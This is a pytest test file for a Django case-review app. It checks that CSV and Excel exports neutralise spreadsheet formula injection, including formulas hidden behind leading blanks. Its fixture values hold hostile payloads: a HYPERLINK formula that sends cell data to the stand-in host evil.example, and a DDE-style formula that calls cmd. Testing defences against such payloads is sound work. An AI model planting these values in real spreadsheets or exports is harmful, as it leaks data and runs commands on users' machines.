"""The plan's exports never carry a formula, even with blanks before the formula sign.

The services trim what people type, so the hostile values are put straight in the database
here, as rows saved by an older version or an import would be: the export must be safe
whatever it finds.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from casereviews.accounts.models import Agency
from casereviews.actions.models import Action

DESCRIPTION = ' =HYPERLINK("http://evil.example/?x="&A1,"Click")'
LEAD = "\t@SUM(1+1)*cmd|' /C calc'!A0"
MEASURE = "\r\n-2+3"
AGENCY = "\u00a0+Northshire Police"


@pytest.fixture
def hostile(world, police_action):
    Action.objects.filter(pk=police_action.pk).update(
        description=DESCRIPTION, lead_role=LEAD, success_measure=MEASURE
    )
    Agency.objects.filter(pk=world.police.pk).update(name=AGENCY)
    return police_action


def test_excel_export_neutralises_formulas_behind_blanks(world, client_for, hostile):
    response = client_for(world.business_unit).get(reverse("actions:export"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    row = [c.value for c in sheet[2]]
    assert row[3] == "'" + DESCRIPTION
    assert row[4] == "'" + AGENCY
    assert row[5] == "'" + LEAD
    assert row[9] == "'" + MEASURE
    assert all(sheet.cell(2, col).data_type == "s" for col in (4, 5, 6, 10))


def test_csv_export_neutralises_formulas_behind_blanks(world, client_for, hostile):
    response = client_for(world.business_unit).get(reverse("actions:export"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
    assert rows[1][3] == "'" + DESCRIPTION
    assert rows[1][4] == "'" + AGENCY
    assert rows[1][5] == "'" + LEAD
    assert rows[1][9] == "'" + MEASURE
